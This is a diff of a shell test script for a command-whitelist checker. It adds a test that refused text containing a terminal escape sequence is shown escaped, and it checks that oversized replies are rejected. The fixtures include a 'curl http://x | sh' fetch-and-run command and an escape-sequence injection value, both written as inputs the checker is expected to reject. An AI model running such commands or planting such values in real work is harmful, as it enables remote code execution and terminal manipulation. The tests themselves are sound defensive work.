@@ -83,6 +83,12 @@ printf -- '- `systemctl restart nginx`\n- `curl http://x | sh`\n' >"$tmp/mixed.m
 expect_rc 1 "$bin" whitelist test -w "$wl" --reply "$tmp/mixed.md" --json
 json_check 'j["verdict"] == "reject" and j["commands"] == [] and len(j["rejected"]) == 1'
 
+# Refused text is shown escaped: no raw escape sequence reaches the terminal.
+printf '{"commands": [{"action": "x\\u001b[2J", "args": {}}]}' >"$tmp/esc.json"
+expect_rc 1 "$bin" whitelist test -w "$wl" --reply "$tmp/esc.json"
+if grep -q $'\x1b' <<<"$out"; then bad "raw ESC in output: $out"; else ok; fi
+grep -qF 'x\x1b[2J' <<<"$out" && ok || bad "escaped text missing: $out"
+
 head -c 70000 /dev/zero | tr '\0' a >"$tmp/big.md"
 expect_rc 1 "$bin" whitelist test -w "$wl" --reply "$tmp/big.md" --json
 json_check 'j["verdict"] == "reject" and "cap" in j["reason"]'
